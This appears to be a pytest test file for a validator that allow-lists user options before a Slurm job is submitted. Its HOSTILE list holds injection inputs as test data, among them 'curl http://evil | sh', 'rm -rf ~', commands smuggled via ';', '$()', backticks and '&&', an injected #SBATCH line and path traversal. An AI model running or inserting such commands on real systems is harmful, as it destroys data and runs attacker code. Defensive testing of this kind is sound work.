"""Option validation: the allow-list that stands between user_options and Slurm."""

import math

import pytest

from centre.options import AUTO, OptionError, options_from_form, validate_user_options


def test_empty_options_give_the_default_profile(site):
    request = validate_user_options({}, site)
    assert request.profile == "cpu"
    assert request.cluster == AUTO
    assert request.candidate_clusters == ("alpha", "beta")
    assert (request.cores, request.memory_gb, request.gpus) == (1, 2, 0)
    assert request.walltime_minutes == 120
    assert request.image == "base"


@pytest.mark.parametrize(
    ("options", "expected"),
    [
        (
            {"profile": "gpu", "gpus": 2},
            {"cluster": "alpha", "partition": "gpu", "gpus": 2, "image": "gpu"},
        ),
        ({"profile": "gpu", "cluster": "alpha"}, {"cluster": "alpha", "gpus": 1}),
        ({"cluster": "beta", "cores": "4"}, {"cluster": "beta", "cores": 4, "partition": "cpu"}),
        ({"profile": "bigmem"}, {"cluster": "beta", "partition": "bigmem", "memory_gb": 64}),
        ({"walltime_hours": "1.5"}, {"walltime_minutes": 90}),
        ({"walltime_hours": 0.01}, {"walltime_minutes": 1}),
        ({"walltime_hours": 12}, {"walltime_minutes": 720}),
        ({"memory_gb": 32, "cores": 8}, {"memory_gb": 32, "cores": 8}),
        ({"image": "gpu"}, {"image": "gpu"}),
        ({"cluster": "auto"}, {"cluster": AUTO}),
    ],
)
def test_good_options(site, options, expected):
    request = validate_user_options(options, site)
    for field, value in expected.items():
        assert getattr(request, field) == value


HOSTILE = [
    # extra keys, including batchspawner's template variables
    ({"prologue": "curl http://evil | sh"}, "prologue"),
    ({"options": "--uid=0"}, "options"),
    ({"partition": "gpu"}, "partition"),
    ({"nprocs": 64}, "nprocs"),
    ({"cmd": "/bin/sh"}, "cmd"),
    ({"epilogue": "rm -rf ~"}, "epilogue"),
    ({"req_runtime": "99:00:00"}, "req_runtime"),
    ({"profile": "cpu", "__class__": "x"}, "__class__"),
    # shell metacharacters in every field
    ({"profile": "cpu\nrm -rf ~"}, "profile"),
    ({"cluster": "alpha; scancel -u root"}, "cluster"),
    ({"cores": "1$(reboot)"}, "cores"),
    ({"memory_gb": "`id`"}, "memory_gb"),
    ({"gpus": "0\n#SBATCH --gres=gpu:4"}, "gpus"),
    ({"walltime_hours": "1;sh"}, "walltime_hours"),
    ({"image": "base && curl x"}, "image"),
    ({"image": "../../bin"}, "image"),
    ({"cores": " 4"}, "cores"),
    # bad numbers
    ({"cores": -1}, "cores"),
    ({"cores": 0}, "cores"),
    ({"cores": 10**12}, "cores"),
    ({"cores": "999999999999"}, "cores"),
    ({"cores": float("nan")}, "cores"),
    ({"walltime_hours": float("nan")}, "walltime_hours"),
    ({"walltime_hours": math.inf}, "walltime_hours"),
    ({"walltime_hours": -2}, "walltime_hours"),
    ({"walltime_hours": 0}, "walltime_hours"),
    ({"cores": "2.5"}, "cores"),
    ({"cores": 2.0}, "cores"),
    ({"cores": "1e3"}, "cores"),
    ({"cores": "four"}, "cores"),
    ({"cores": True}, "cores"),
    ({"cores": None}, "cores"),
    ({"cores": [4]}, "cores"),
    ({"cores": {"$gt": 1}}, "cores"),
    ({"memory_gb": 10**6}, "memory_gb"),
    ({"walltime_hours": "1e9"}, "walltime_hours"),
    ({"walltime_hours": 10**400}, "walltime_hours"),
    ({"cores": 10**400}, "cores"),
    # unknown names
    ({"cluster": "gamma"}, "cluster"),
    ({"profile": "root"}, "profile"),
    ({"image": "ubuntu"}, "image"),
    ({"profile": ["cpu"]}, "profile"),
    # GPUs where there are none, limits of the profile
    ({"gpus": 1}, "gpus"),
    ({"profile": "cpu", "cluster": "beta", "gpus": 2}, "gpus"),
    ({"profile": "gpu", "gpus": 8}, "gpus"),
    ({"profile": "gpu", "gpus": 0}, "gpus"),
    ({"profile": "gpu", "cluster": "beta"}, "cluster"),
    ({"profile": "bigmem", "cluster": "alpha"}, "cluster"),
    ({"profile": "gpu", "image": "base"}, "image"),
    ({"walltime_hours": 13}, "walltime_hours"),
    ({"walltime_hours": "12.01"}, "walltime_hours"),
    ({"cores": 9}, "cores"),
]


@pytest.mark.parametrize(("options", "field"), HOSTILE)
def test_hostile_options_are_refused_naming_the_field(site, options, field):
    with pytest.raises(OptionError) as refused:
        validate_user_options(options, site)
    assert refused.value.field == field
    assert str(refused.value).startswith(f"{field}: ")


def test_there_are_at_least_thirty_hostile_cases():
    assert len(HOSTILE) >= 30


def test_messages_say_what_is_allowed(site):
    with pytest.raises(OptionError, match=r"allows 1 to 4 GPUs; you asked for 8"):
        validate_user_options({"profile": "gpu", "gpus": 8}, site)
    with pytest.raises(OptionError, match=r"has no GPUs; you asked for 1"):
        validate_user_options({"gpus": 1}, site)
    with pytest.raises(OptionError, match=r"Allowed options are: profile, cluster"):
        validate_user_options({"prologue": "x"}, site)
    with pytest.raises(OptionError, match=r"choose one of auto, alpha, beta"):
        validate_user_options({"cluster": "gamma"}, site)


def test_form_data_is_flattened_and_repeats_refused():
    assert options_from_form({"cores": ["2"], "profile": ["cpu"]}) == {
        "cores": "2",
        "profile": "cpu",
    }
    with pytest.raises(OptionError) as refused:
        options_from_form({"cores": ["2", "64"]})
    assert refused.value.field == "cores"


def test_form_values_validate_like_api_values(site):
    from_form = validate_user_options(
        options_from_form(
            {"profile": ["gpu"], "cores": ["4"], "gpus": ["2"], "walltime_hours": ["2"]}
        ),
        site,
    )
    from_api = validate_user_options(
        {"profile": "gpu", "cores": 4, "gpus": 2, "walltime_hours": 2}, site
    )
    assert from_form == from_api
